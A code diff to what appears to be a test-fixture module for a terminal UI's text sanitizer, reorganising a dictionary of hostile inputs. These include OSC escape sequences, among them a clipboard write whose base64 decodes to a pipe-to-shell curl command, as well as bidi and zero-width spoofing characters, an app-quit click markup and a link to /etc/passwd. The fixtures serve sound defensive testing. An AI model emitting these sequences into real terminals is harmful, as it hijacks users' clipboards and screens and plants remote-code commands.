@@ -18,6 +18,19 @@ import re
 
 from agent_tui.text.sanitize import INVISIBLE
 
+# Text shaped like markup, as tools and people write it: a parser that reads it as
+# markup fails on it (`[link=file:…]`, `[/]` with nothing open), applies it, or eats
+# the backslash before `[`. Each must be painted as it is.
+MARKUP_SHAPES: dict[str, str] = {
+    "markup-link": "[link=file:///etc/passwd]x",
+    "markup-errno": "[Errno -2] x",
+    "markup-tag": "[bold]x[/]",
+    "markup-lone-close": "[/]",
+    "markup-click": "[@click=app.quit]x",
+    "markup-unbalanced": "[ unbalanced",
+    "markup-escaped": "a\\[bold]b",
+}
+
 HOSTILE: dict[str, str] = {
     "osc-title": "\x1b]0;pwned\x07",
     "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
@@ -34,22 +47,10 @@ HOSTILE: dict[str, str] = {
     "bidi-override": "\u202eevil\u202c",
     "bidi-isolate": "\u2066x\u2069",
     "zero-width": "ad\u200bmin\u200d\ufeff\u00ad",
+    **MARKUP_SHAPES,
     "textual-markup": "[@click=app.quit]click[/]",
     "rich-markup": "[bold]b[/bold]",
 }
-
-# Text shaped like markup, as tools and people write it: a parser that reads it as
-# markup fails on it (`[link=file:…]`, `[/]` with nothing open), applies it, or eats
-# the backslash before `[`. Each must be painted as it is.
-MARKUP_SHAPES = (
-    "[link=file:///etc/passwd]x",
-    "[Errno -2] x",
-    "[bold]x[/]",
-    "[/]",
-    "[@click=app.quit]x",
-    "[ unbalanced",
-    "a\\[bold]b",
-)
 
 MARKER = "hostile"
 EVERYTHING = MARKER + "".join(HOSTILE.values()) + MARKER
